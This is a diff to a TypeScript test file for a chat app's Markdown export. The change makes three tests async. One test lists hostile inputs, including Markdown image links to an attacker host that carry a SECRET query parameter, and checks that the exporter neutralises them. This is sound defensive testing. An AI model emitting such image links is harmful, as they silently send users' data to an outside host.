@@ -19,11 +19,11 @@ it('groups conversations by when they were last used', () => {
   expect(groups.map(({ group }) => group)).toEqual(['today', 'yesterday', 'week', 'older']);
 });
 
-it('writes a conversation as Markdown, with the sources that were cited', () => {
+it('writes a conversation as Markdown, with the sources that were cited', async () => {
   const message = (fields: Partial<Message>) =>
     ({ citations: [], sources: [], ...fields }) as unknown as Message;
   const source = { filename: 'a.pdf', page: 3 };
-  const text = conversationAsMarkdown({
+  const text = await conversationAsMarkdown({
     ...at('2026-03-10T15:00:00Z'),
     title: 'Sales',
     messages: [
@@ -42,7 +42,7 @@ it('writes a conversation as Markdown, with the sources that were cited', () => 
   expect(text).not.toContain('[2]');
 });
 
-it('writes nothing into Markdown that a program would run or fetch', () => {
+it('writes nothing into Markdown that a program would run or fetch', async () => {
   const hostile = [
     '![x](https://evil.example/?q=SECRET)',
     '![x][r]\n\n[r]: https://evil.example',
@@ -54,7 +54,7 @@ it('writes nothing into Markdown that a program would run or fetch', () => {
     'a < b and List<String>',
   ];
   for (const text of hostile) {
-    const written = conversationAsMarkdown({
+    const written = await conversationAsMarkdown({
       ...at('2026-03-10T15:00:00Z'),
       title: text,
       messages: [
@@ -73,9 +73,9 @@ it('writes nothing into Markdown that a program would run or fetch', () => {
   }
 });
 
-it('writes code into Markdown as it is', () => {
+it('writes code into Markdown as it is', async () => {
   const text = 'Use `Map<string, int>`:\n\n```html\n<b>![x](y)</b>\n```';
-  const written = conversationAsMarkdown({
+  const written = await conversationAsMarkdown({
     ...at('2026-03-10T15:00:00Z'),
     messages: [
       { role: 'user', text: 'How do I write <b>?' } as Message,
